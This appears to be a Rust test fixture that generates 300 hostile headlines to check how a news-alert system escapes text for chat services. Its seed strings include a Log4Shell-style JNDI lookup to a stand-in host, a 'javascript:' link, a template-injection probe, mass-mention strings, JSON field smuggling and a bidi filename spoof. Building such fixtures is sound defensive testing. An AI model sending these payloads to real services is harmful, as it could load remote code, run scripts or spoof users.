//! Headlines that want to do more than be read.

use wirewatch::model::{
    AlertContent, AlertId, ChannelName, Content, Delivery, DeliveryId, Field, Outlet, RuleName,
    Severity, Span, StoryId, UpdateContent, UpdateId,
};

pub const LINK: &str = "https://news.example.org/a_b/(c)*d*?x=1&y=%7C|2&z='q'&w=[1]~`";

const SEEDS: [&str; 30] = [
    "@everyone look",
    "@here @channel @all @room",
    "<!channel> <!here|x> <!everyone>",
    "<@U1> <@!123456789> <@&42> <#C1> <!subteam^S1>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/)",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example/|harmless>",
    "<a href=\"tg://resolve?domain=evil\">x</a>",
    "tg://user?id=1 slack://open steam://run/1 mailto:a@b.example",
    "https://evil.example/path and http://evil.example",
    "`code` ```fence``` ~~gone~~ ||spoiler||",
    "*bold* _italic_ __under__ **strong** ***both***",
    "# heading\n## heading\n> quote\n- list\n1. list",
    "&lt;b&gt; &amp; &#64;everyone &commat;everyone",
    "</b></a></blockquote><b>",
    "\\*not\\* \\[escaped\\](x) \\\\",
    "~town-square #hashtag :smile: $x^2$ $$y$$",
    "\u{202e}gpj.exe \u{2066}x\u{2069} \u{200f}\u{5d0}\u{5d1}\u{5d2}",
    "\u{627}\u{644}\u{639}\u{631}\u{628}\u{64a}\u{629} mixed \u{5e2}\u{5d1}\u{5e8}\u{5d9}\u{5ea}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦👩🏽\u{200d}🚀🏳\u{fe0f}\u{200d}🌈🇩🇪🇫🇷",
    "e\u{301}a\u{308}\u{323}o\u{302}\u{301} z\u{310}\u{311}\u{312}\u{313}",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[31m\r\n\t\u{7f}\u{85}",
    "one\u{2028}two\u{2029}three\u{feff}\u{fffe}\u{ffff}",
    "電力の供給が停止、港湾で衝突",
    "<at>Everyone</at> <at id=\"1\">x</at>",
    "{\"text\":\"x\"} \",\"channel\":\"#all\" \\u0040everyone",
    "{{7*7}} {% raw %} ${jndi:ldap://evil.example/a}",
    "https://matrix.to/#/@user:example.org @user:example.org",
    "][](<>)\"'`*_~|#&@:/\\-+!.=",
];

/// Of every seed ten: short, at the edges of limits, and far beyond.
const PADS: [usize; 10] = [0, 40, 200, 236, 250, 255, 280, 295, 1_000, 100_000];

/// Three hundred headlines.
pub fn hostile() -> Vec<String> {
    let padded = |seed: &&str| {
        PADS.map(|pad| {
            // What is nasty stands at the cut, and fills what is very long.
            if pad >= 1_000 { seed.repeat(pad / seed.len() + 1) } else { "x".repeat(pad) + seed }
        })
    };
    SEEDS.iter().flat_map(padded).collect()
}

/// A delivery of an alert whose every text is this one.
pub fn delivery(id: &str, title: &str) -> Delivery {
    let time = "2026-11-22T16:45:00Z".parse().unwrap();
    let outlet = |name: &str| Outlet {
        feed: "wire".to_owned(),
        name: name.to_owned(),
        url: Some("https://news.example.org/7".to_owned()),
        published: Some(time),
        first_seen: time,
    };
    let short: String = title.chars().take(2_000).collect();
    let text = format!("{title} {short}. {short}");
    Delivery {
        id: DeliveryId::new(id),
        channel: ChannelName::new("desk"),
        recipient: String::new(),
        attempts: 0,
        created_at: time,
        content: Content::Alert(Box::new(AlertContent {
            role: wirewatch::model::Role::Alert,
            alert: AlertId::new("a0123456789abcdef"),
            rule: RuleName::new("naval"),
            rule_title: "Naval *news* <&> @desk".to_owned(),
            severity: Severity::High,
            story: StoryId::new("s0123456789abcdef"),
            spans: vec![
                Span { field: Field::Title, start: 0, end: 3 },
                Span { field: Field::Text, start: 2, end: title.len().min(40) + 2 },
                Span { field: Field::Text, start: title.len(), end: title.len() + 3 },
            ],
            title: title.to_owned(),
            text,
            url: Some(LINK.to_owned()),
            published: Some(time),
            created_at: time,
            capitals_only: true,
            outlets: (1..6)
                .map(|number| outlet(&format!("{number}{short}")))
                .chain([outlet("Harbour Wire")])
                .collect(),
            // With it the longest go beyond every service's limit.
            update: (title.len() >= 1_000).then(|| update(title)),
        })),
    }
}

fn update(title: &str) -> UpdateContent {
    UpdateContent {
        id: UpdateId::new("u1"),
        kind: "headline".to_owned(),
        text: title.to_owned(),
        at: "2026-11-22T17:45:00Z".parse().unwrap(),
        sources: 2,
        title: title.to_owned(),
        url: Some(LINK.to_owned()),
        outlet: title.to_owned(),
    }
}

/// The link as it is sent: a URL in normal form.
pub fn link() -> String {
    url::Url::parse(LINK).unwrap().into()
}
